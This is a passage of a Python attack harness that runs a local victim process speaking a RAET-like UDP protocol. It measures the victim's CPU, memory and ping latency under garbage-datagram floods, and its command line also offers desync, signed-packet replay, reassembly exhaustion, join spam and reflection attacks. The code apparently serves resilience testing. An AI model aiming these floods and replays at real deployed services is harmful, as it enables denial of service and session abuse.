                        coat_kind=CoatKind.NACL, head_kind=HeadKind.RAET if pick == 1
                        else HeadKind.JSON)
            coat = rng.randbytes(rng.randrange(40, 800))
            try:
                pool.append(pack_packet(head, coat))
            except Exception:  # noqa: BLE001,S112 - a combination the codec refuses
                continue
    return pool


def attack_flood(args: argparse.Namespace, start: Callable[..., Victim]) -> dict[str, Any]:
    victim = start(auto="once")
    quiet = quiet_ping(victim.address, args.ping_count, runs=2)
    pool = garbage_pool(2000, args.seed)
    sock = udp_socket()
    counter = Counter([sock])
    rss_before, cpu_before = victim.rss(), victim.cpu_seconds()
    pings = PingLoop(victim.address, args.ping_count, timeout=PING_TIMEOUT)
    stop = threading.Event()
    sent = [0, 0]

    def flood() -> None:
        began, i = time.monotonic(), 0
        while not stop.is_set():
            data = pool[i % len(pool)]
            try:
                sock.sendto(data, victim.address)
                sent[0] += 1
                sent[1] += len(data)
            except (BlockingIOError, ConnectionRefusedError):
                pass
            i += 1
            if args.rate and i % 64 == 0:
                ahead = began + i / args.rate - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)

    flooder = threading.Thread(target=flood, daemon=True)
    t0 = time.monotonic()
    flooder.start()
    time.sleep(0.3)
    pings.start()
    time.sleep(args.seconds)
    during = pings.stop()
    stop.set()
    flooder.join()
    elapsed = time.monotonic() - t0
    cpu = 100.0 * (victim.cpu_seconds() - cpu_before) / elapsed
    time.sleep(0.5)
    counter.stop()
    sock.close()
    return {
        "seconds": round(elapsed, 2), "target_rate_per_s": args.rate,
        "garbage_datagrams": sent[0], "garbage_bytes": sent[1],
        "achieved_rate_per_s": round(sent[0] / elapsed),
        "answer_bytes": counter.bytes, "answers_by_kind": counter.kinds,
        "answer_bytes_per_attacker_byte": ratio(counter.bytes, sent[1]),
        "victim_cpu_percent": round(cpu, 1),
        "rss_growth_mb": mb(victim.rss() - rss_before),
        "ping_p50_quiet_ms": p50(quiet), "ping_p50_during_flood_ms": p50(during),
        "pings_during_flood": during, "victim_alive": victim.alive(),
    }


# == command line ========================================================================


def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - one option a line
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--json", action="store_true", help="print one JSON line")
    parser.add_argument("--tree", default=str(TREE),
                        help="source tree the victim runs (default: this file's tree)")
    parser.add_argument("--keep-temp", action="store_true",
                        help="keep the temporary directory (victim keeps and logs)")
    sub = parser.add_subparsers(dest="attack", required=True)

    p = sub.add_parser("desync", help="unsigned datagrams claiming a newer session id")
    p.add_argument("--datagrams", type=int, default=16)
    p.add_argument("--uid-low", type=int, default=2, help="first victim-side uid sprayed")
    p.add_argument("--echoes", type=int, default=10)
    p.add_argument("--wait", type=float, default=15.0, help="seconds to wait for the echoes")

    p = sub.add_parser("replay", help="walk the session id, replay a captured signed packet")
    p.add_argument("--walks", type=int, default=4)
    p.add_argument("--wait", type=float, default=2.0)

    p = sub.add_parser("reassembly", help="reassembly memory and RESEND amplification")
    p.add_argument("--parts", default="", help="comma list of a,b,c,d (default: all)")
    p.add_argument("--prealloc", type=int, default=500, help="(a) first segments sent")
    p.add_argument("--partials", type=int, default=2000, help="(b) partial messages sent")
    p.add_argument("--partial-count", type=int, default=64,
                   help="(b) segments each partial message declares")
    p.add_argument("--resend-segments", type=int, default=10, help="(c) sn=65534 segments")
    p.add_argument("--resend-window", type=float, default=10.0,
                   help="(c) seconds to count RESEND packets")
    p.add_argument("--fast-datagrams", type=int, default=2000, help="(d) fast datagrams sent")
    p.add_argument("--fast-datagram", type=int, default=1232, help="(d) bytes per datagram")
    p.add_argument("--fast-chunk", type=int, default=8, help="(d) data bytes per chunk")
    p.add_argument("--rate", type=float, default=5000.0, help="datagrams/s (0: unpaced)")
    p.add_argument("--wait", type=float, default=5.0,
                   help="seconds after the attack for the later RSS reading")
    p.add_argument("--ping-count", type=int, default=100, help="messages per legitimate ping")

    p = sub.add_parser("joinspam", help="join requests of fake estates")
    p.add_argument("--count", type=int, default=3000)
    p.add_argument("--autos", default="never,once")
    p.add_argument("--sockets", type=int, default=64, help="distinct source ports")
    p.add_argument("--spam-seconds", type=float, default=5.0)
    p.add_argument("--no-complete", dest="complete", action="store_false",
                   help="do not ack the responses (joins stay open)")
    p.add_argument("--extra-keys", type=int, default=0, help="extra keys per join body")
    p.add_argument("--settle", type=float, default=5.0,
                   help="seconds after the spam before idle CPU is measured")
    p.add_argument("--idle-seconds", type=float, default=5.0, help="idle CPU measured over")
    p.add_argument("--ping-count", type=int, default=100, help="messages per legitimate ping")

    p = sub.add_parser("reflect", help="answer bytes to a source that never answers")
    p.add_argument("--seconds", type=float, default=30.0)

    p = sub.add_parser("flood", help="garbage datagrams vs a legitimate ping")
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--rate", type=float, default=20000.0, help="datagrams/s (0: as fast as can)")
    p.add_argument("--seed", type=int, default=13)
    p.add_argument("--ping-count", type=int, default=100, help="messages per legitimate ping")

    args = parser.parse_args(argv)
    attacks = {"desync": attack_desync, "replay": attack_replay,
               "reassembly": attack_reassembly, "joinspam": attack_joinspam,
               "reflect": attack_reflect, "flood": attack_flood}
    workdir = Path(tempfile.mkdtemp(prefix="raetlike-attack-"))
    try:
        with victims(workdir) as start:
            began = time.monotonic()
            figures = attacks[args.attack](args, start)
            figures["elapsed_s"] = round(time.monotonic() - began, 1)
        report(args, args.attack, figures)
    finally:
        if args.keep_temp:
            print(f"kept {workdir}", file=sys.stderr)
        else:
            shutil.rmtree(workdir, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
